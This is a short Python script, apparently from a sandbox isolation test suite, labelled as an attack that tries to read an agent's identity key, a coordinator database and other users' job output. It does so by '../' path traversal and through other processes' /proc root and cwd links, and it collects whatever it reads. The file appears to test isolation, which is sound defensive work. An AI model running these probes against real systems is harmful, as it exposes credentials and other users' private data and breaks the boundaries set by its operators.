"""Attack 1: read what belongs to the agent, to the coordinator and to other users' jobs.

Tries each file of both state directories by its path, through `..` from the working directory, and through the root
directories of other processes in /proc. Succeeds if any file of somebody else can be read.
"""

from kit import attempt, got, mine, others, read, report, scene, state_files, targets

seen: dict[str, str] = {}


def look(path: str) -> None:
    text = attempt(f"read {path}", read, path)
    if text:
        seen[path] = text[:2000]


for path in state_files():
    look(path)
    if len(got) > 40:
        break
relative = "../" * 12
for path in (f"{scene['state']}/identity/own.key", f"{scene['coordinator_state']}/grid.db"):
    look(relative + path.lstrip("/"))
    for pid in [*dict(targets()).values(), *others()]:
        look(f"/proc/{pid}/root{path}")
for pid in others():
    for name in ("../stdout", "../../../journal"):
        if not mine(f"/proc/{pid}/cwd"):
            look(f"/proc/{pid}/cwd/{name}")
report(read=list(seen.values())[:20])
